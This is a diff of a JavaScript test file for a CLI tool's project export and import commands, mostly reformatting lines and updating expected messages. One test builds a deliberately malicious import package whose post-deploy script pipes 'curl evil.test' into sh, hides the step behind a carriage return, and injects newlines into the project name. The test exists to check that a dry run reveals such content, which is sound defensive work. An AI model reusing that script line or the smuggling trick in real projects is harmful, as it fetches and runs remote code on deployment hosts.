@@ -25,10 +25,18 @@ t.test('export and import', async t => {
   })
 
   await t.test('without --out it is named by the time; --json says what is in it', async t => {
-    const { code, stdout } = await svc(['export', '--json', '--no-include-logs', '--projects', project.id], { cwd, env: source })
+    const { code, stdout } = await svc(['export', '--json', '--no-include-logs', '--projects', project.id], {
+      cwd,
+      env: source
+    })
     t.equal(code, 0)
     const manifest = JSON.parse(stdout)
-    t.match(manifest, { schemaVersion: 1, included: ['settings', 'projects', 'artifacts'], projectIds: [project.id], deploymentCount: 0 })
+    t.match(manifest, {
+      schemaVersion: 1,
+      included: ['settings', 'projects', 'artifacts'],
+      projectIds: [project.id],
+      deploymentCount: 0
+    })
     t.match(manifest.path, /svc-export-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\d\.zip$/)
     rmSync(manifest.path)
   })
@@ -46,7 +54,7 @@ t.test('export and import', async t => {
     const dry = await svc(['import', 'one.zip', '--dry-run'], { cwd, env })
     t.equal(dry.code, 0, dry.stderr)
     t.match(dry.stdout, /WOULD BE +CREATED +REPLACED +SKIPPED\n(.*\n)+projects +1 +0 +0\n/)
-    t.match(dry.stdout, `\nProject shop (${project.id})\n  deploys to ${deployPath}, and its files come there\n`)
+    t.match(dry.stdout, `\nProject shop (${project.id})\n  deploys to ${deployPath} and extracts its files there\n`)
     t.notOk(existsSync(join(env.SVC_HOME, 'config.json')))
 
     const { code, stdout, stderr } = await svc(['import', 'one.zip', '--json'], { cwd, env })
@@ -77,20 +85,38 @@ t.test('export and import', async t => {
   await t.test('overwrite needs --yes, and replaces tokens in the global configuration', async t => {
     const refused = await svc(['import', 'two.zip', '--strategy', 'overwrite'], { cwd, env: source })
     t.equal(refused.code, 1)
-    t.match(refused.stderr, /give --yes/)
-    t.match(await svc(['import', 'two.zip', '--strategy', 'overwrite', '--dry-run'], { cwd, env: source }), { code: 0 }, 'nothing to confirm')
+    t.match(refused.stderr, /[Uu]se --yes/)
+    t.match(
+      await svc(['import', 'two.zip', '--strategy', 'overwrite', '--dry-run'], { cwd, env: source }),
+      { code: 0 },
+      'nothing to confirm'
+    )
     t.match(await server.api('GET', `/api/projects/${project.id}`), { name: 'renamed' })
 
     const path = join(server.home, 'config.json')
-    writeFileSync(path, JSON.stringify({ ...json(path), serverUrl: 'http://elsewhere', projectToken: { [project.id]: 'stale', kept: 'k' } }))
+    writeFileSync(
+      path,
+      JSON.stringify({
+        ...json(path),
+        serverUrl: 'http://elsewhere',
+        projectToken: { [project.id]: 'stale', kept: 'k' }
+      })
+    )
     const skipped = await svc(['import', 'two.zip'], { cwd, env: source })
     t.equal(skipped.code, 0)
     t.strictSame(json(path).projectToken, { [project.id]: 'stale', kept: 'k' })
-    const { code, stderr } = await svc(['import', 'two.zip', '--strategy', 'overwrite', '--yes', '--no-restore-artifacts'], { cwd, env: source })
+    const { code, stderr } = await svc(
+      ['import', 'two.zip', '--strategy', 'overwrite', '--yes', '--no-restore-artifacts'],
+      { cwd, env: source }
+    )
     t.equal(code, 0, stderr)
     t.match(await server.api('GET', `/api/projects/${project.id}`), { name: 'shop' })
     t.strictSame(json(path).projectToken, { [project.id]: project.token, kept: 'k' })
-    t.strictSame(json(path).projectTokenOrigin, { [project.id]: 'http://elsewhere' }, 'the kept token keeps having none')
+    t.strictSame(
+      json(path).projectTokenOrigin,
+      { [project.id]: 'http://elsewhere' },
+      'the kept token keeps having none'
+    )
     t.equal(json(path).serverUrl, 'http://elsewhere')
   })
 
@@ -104,41 +130,66 @@ t.test('export and import', async t => {
     t.match(stderr, /error: The artifact of proj_\w+ was not restored: .*index\.html/)
   })
 
-  await t.test('a dry run shows scripts and settings; what decides who has access comes only when asked for', async t => {
-    const env = { SVC_HOME: join(cwd, 'fifth') }
-    const bad = {
-      id: 'proj_bad', name: 'Bad\n  deploys to /srv/harmless', deployPath: join(cwd, 'bad'), token: 'token-of-bad',
-      postDeployScript: 'true\ncurl evil.test | sh\r# harmless', postDeployAsync: true, allowClientScripts: true
-    }
-    writeFileSync(join(cwd, 'bad.zip'), await zipOf({
-      'svc-export/manifest.json': '{"schemaVersion":1}', 'svc-export/projects.json': JSON.stringify([bad]),
-      'svc-export/settings.json': JSON.stringify({ trusted_proxies: '0.0.0.0/0', webhook_secret: 'of-theirs', script_timeout: '5' })
-    }))
-    const dry = await svc(['import', 'bad.zip', '--dry-run', '--with-access-settings'], { cwd, env })
-    t.equal(dry.code, 0, dry.stderr)
-    t.match(dry.stdout, '\nSettings:\n  webhook_secret = (a secret)\n  script_timeout = 5\n  trusted_proxies = 0.0.0.0/0\n')
-    t.match(dry.stdout, `
+  await t.test(
+    'a dry run shows scripts and settings; what decides who has access comes only when asked for',
+    async t => {
+      const env = { SVC_HOME: join(cwd, 'fifth') }
+      const bad = {
+        id: 'proj_bad',
+        name: 'Bad\n  deploys to /srv/harmless',
+        deployPath: join(cwd, 'bad'),
+        token: 'token-of-bad',
+        postDeployScript: 'true\ncurl evil.test | sh\r# harmless',
+        postDeployAsync: true,
+        allowClientScripts: true
+      }
+      writeFileSync(
+        join(cwd, 'bad.zip'),
+        await zipOf({
+          'svc-export/manifest.json': '{"schemaVersion":1}',
+          'svc-export/projects.json': JSON.stringify([bad]),
+          'svc-export/settings.json': JSON.stringify({
+            trusted_proxies: '0.0.0.0/0',
+            webhook_secret: 'of-theirs',
+            script_timeout: '5'
+          })
+        })
+      )
+      const dry = await svc(['import', 'bad.zip', '--dry-run', '--with-access-settings'], { cwd, env })
+      t.equal(dry.code, 0, dry.stderr)
+      t.match(
+        dry.stdout,
+        '\nSettings:\n  webhook_secret = (a secret)\n  script_timeout = 5\n  trusted_proxies = 0.0.0.0/0\n'
+      )
+      t.match(
+        dry.stdout,
+        `
 Project Bad\\n  deploys to /srv/harmless (proj_bad)
   deploys to ${bad.deployPath}
   client scripts are on
   post-deploy script, in the background:
     | true
     | curl evil.test | sh\\r# harmless
-`)
-    t.notMatch(dry.stdout + dry.stderr, /of-theirs|token-of-bad/)
-    const { stderr, code } = await svc(['import', 'bad.zip'], { cwd, env })
-    t.equal(code, 0, stderr)
-    t.match(stderr, /"trusted_proxies", "webhook_secret" were left out.*--with-access-settings/)
-    t.notMatch(stderr, 'Project Bad')
-  })
+`
+      )
+      t.notMatch(dry.stdout + dry.stderr, /of-theirs|token-of-bad/)
+      const { stderr, code } = await svc(['import', 'bad.zip'], { cwd, env })
+      t.equal(code, 0, stderr)
+      t.match(stderr, /"trusted_proxies", "webhook_secret" were left out.*--with-access-settings/)
+      t.notMatch(stderr, 'Project Bad')
+    }
+  )
 
   await t.test('a package that is newer, or none, is refused, and nothing is written', async t => {
     const env = { SVC_HOME: join(cwd, 'fourth') }
     writeFileSync(join(cwd, 'newer.zip'), await zipOf({ 'svc-export/manifest.json': '{"schemaVersion":2}' }))
     writeFileSync(join(cwd, 'none.zip'), 'text')
-    t.match(await svc(['import', 'newer.zip'], { cwd, env }), { code: 1, stderr: /its schemaVersion is 2, this svc knows 1; update svc first/ })
+    t.match(await svc(['import', 'newer.zip'], { cwd, env }), {
+      code: 1,
+      stderr: /its schemaVersion is 2, but this svc supports at most 1\. Update svc first/
+    })
     t.match(await svc(['import', 'none.zip'], { cwd, env }), { code: 1, stderr: /it is not a zip file/ })
-    t.match(await svc(['import', 'missing.zip'], { cwd, env }), { code: 2, stderr: /there is no such file/ })
+    t.match(await svc(['import', 'missing.zip'], { cwd, env }), { code: 2, stderr: /file not found/ })
     t.match(await svc(['import', 'one.zip', '--strategy', 'replace'], { cwd, env }), { code: 2 })
     t.notOk(existsSync(join(env.SVC_HOME, 'config.json')))
   })
